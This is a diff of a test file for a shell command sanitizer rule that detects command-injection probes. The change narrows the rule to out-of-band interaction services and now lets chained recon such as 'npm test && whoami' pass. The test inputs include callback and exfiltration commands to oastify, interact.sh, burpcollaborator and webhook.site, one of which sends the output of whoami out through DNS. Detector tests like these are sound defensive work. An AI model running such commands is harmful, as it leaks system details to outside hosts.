@@ -1,6 +1,7 @@
 /**
- * shell.probe. Probes: OWASP WSTG "Testing for Command Injection" (blind injection with
- * timing and out-of-band callbacks) and MITRE ATT&CK discovery techniques T1033/T1082/T1016.
+ * shell.probe. Probes: OWASP WSTG "Testing for Command Injection" (blind injection confirmed
+ * through out-of-band callbacks) and the interaction services named in ProjectDiscovery's
+ * interactsh README (projectdiscovery/interactsh).
  */
 import { beforeAll, describe, expect, it } from "vitest";
 import { loadShellParser } from "../../../src/sanitizer/shell/parser.js";
@@ -9,28 +10,17 @@ import { cmd } from "./first-rule.js";
 beforeAll(() => loadShellParser());
 
 describe("shell.probe", () => {
-  it("blocks reconnaissance chained after another command", () => {
-    expect(cmd("npm test; id")).toBe("shell.probe");
-    expect(cmd("make build && whoami")).toBe("shell.probe");
-    expect(cmd("git status | uname -a")).toBe("shell.probe");
-    expect(cmd("dir & net user")).toBe("shell.probe");
-    expect(cmd("npm test; ipconfig /all")).toBe("shell.probe");
-  });
-
-  it("blocks timing probes and interaction services", () => {
-    expect(cmd("npm test | sleep 10")).toBe("shell.probe");
-    expect(cmd("npm test; ping -c 10 127.0.0.1")).toBe("shell.probe");
+  it("blocks commands that call an interaction service", () => {
     expect(cmd("nslookup x.oastify.com")).toBe("shell.probe");
-    expect(cmd("curl https://abc.interact.sh")).toBe("shell.probe");
+    expect(cmd("npm test && curl https://abc.interact.sh")).toBe("shell.probe");
+    expect(cmd("ping -c 1 $(whoami).abc.burpcollaborator.net")).toBeDefined();
+    expect(cmd("wget --post-data=x https://webhook.site/0b1c")).toBeDefined();
   });
 
-  it("passes recon run alone or inside a substitution, and ordinary waits", () => {
-    expect(cmd("whoami")).toBeUndefined();
-    expect(cmd("uname -a")).toBeUndefined();
-    expect(cmd("chown -R $(whoami) node_modules && npm ci")).toBeUndefined();
-    expect(cmd('docker run -u "$(id -u):$(id -g)" node:20 npm test')).toBeUndefined();
-    expect(cmd("docker compose up -d && sleep 10 && npm test")).toBeUndefined();
-    expect(cmd("ping -c 1 example.com && npm ci")).toBeUndefined();
-    expect(cmd("node --version && uname -s")).toBeUndefined();
+  it("passes recon and ordinary network checks, chained or not", () => {
+    expect(cmd("git status;id")).toBeUndefined();
+    expect(cmd("npm test && whoami")).toBeUndefined();
+    expect(cmd("curl -fsS https://api.example.com/health && npm test")).toBeUndefined();
+    expect(cmd("nslookup example.com")).toBeUndefined();
   });
 });
